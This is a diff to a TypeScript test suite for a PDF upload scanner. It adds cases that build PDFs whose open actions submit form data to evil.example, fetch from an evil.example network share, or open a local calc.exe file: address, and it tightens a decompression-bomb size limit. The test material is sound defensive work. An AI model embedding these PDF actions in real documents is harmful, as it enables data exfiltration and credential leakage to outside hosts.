@@ -44,6 +44,12 @@ const ACTIVE: Array<[string, () => Buffer | Promise<Buffer>, RegExp]> = [
   ['page additional actions', () => onePagePdf('', [], '/AA << /O << /S /JavaScript /JS (app.alert(3)) >> >>'), /JavaScript run on an event \(\/AA/],
   ['a link with a javascript: address', () => onePagePdf('', ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (  JavaScript:alert(1)) >> >>'], '/Annots [4 0 R]'), /a link to a javascript: address/],
   ['an XFA form', () => onePagePdf('/AcroForm << /Fields [] /XFA 4 0 R >>', ['<< /Length 0 >>\nstream\n\nendstream']), /an XFA form/],
+  // Black-box re-test: actions that reach out when the document opens.
+  ['a SubmitForm action sending the form away on open', () => onePagePdf('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'), /a \/SubmitForm action/],
+  ['a GoToR action to a network share', () => onePagePdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'), /a \/GoToR action/],
+  ['an ImportData action', () => onePagePdf('/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\x.fdf) >>'), /an \/ImportData action/],
+  ['a link to a file: address', () => onePagePdf('/OpenAction << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'), /a link to a file: address/],
+  ['a link to a network share', () => onePagePdf('', ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (\\\\\\\\evil.example\\\\x) >> >>'], '/Annots [4 0 R]'), /a link to a file or network share address/],
 ];
 
 forEachDatabase('documents: the guarded PDF parse and what the scan accepts (issue 21)', (svc) => {
@@ -68,7 +74,7 @@ forEachDatabase('documents: the guarded PDF parse and what the scan accepts (iss
     await meanwhile;
     assert.equal(out.response.status, 400, JSON.stringify(out.error));
     assert.equal(out.error?.error, 'invalid_input');
-    assert.match(out.error?.message ?? '', /^The file was refused: the PDF is too large to check: its compressed streams expand to more than 128 MiB\.$/);
+    assert.match(out.error?.message ?? '', /^The file was refused: the PDF is too large to check: its compressed streams expand to more than 48 MiB\.$/);
     assert.ok(answered >= 3, `only ${answered} other requests were answered during the scan`);
     const after = await api.documents.GetUpload({ upload_id: out.upload.upload_id });
     assert.equal(after.data?.state, 'rejected');
@@ -128,7 +134,7 @@ describe('documents: the PDF guard for stored files and its limits (issue 21)', 
 
   it('refuses a stored bomb when the archive reads it again, before the unguarded parse', async () => {
     const bomb = bombPdf(768);
-    await assert.rejects(checkStoredPdf(bomb, 500), (err: unknown) => err instanceof PdfUnreadable && /expand to more than 128 MiB/.test(err.reason));
+    await assert.rejects(checkStoredPdf(bomb, 500), (err: unknown) => err instanceof PdfUnreadable && /expand to more than 48 MiB/.test(err.reason));
     // buildArchive reads the original before it looks at the evidence.
     await assert.rejects(buildArchive(bomb, {} as Evidence), /the original PDF cannot be read: the PDF is too large to check/);
   });
